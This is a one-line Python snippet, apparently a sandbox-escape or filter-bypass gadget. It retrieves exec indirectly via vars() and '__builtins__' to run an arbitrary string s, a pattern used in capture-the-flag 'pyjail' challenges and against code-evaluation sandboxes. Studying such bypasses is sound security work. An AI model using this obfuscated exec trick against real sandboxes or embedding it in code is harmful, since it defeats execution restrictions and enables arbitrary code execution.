[vars()[n] for n in ["__builtins__"]][0]["exec"](s)
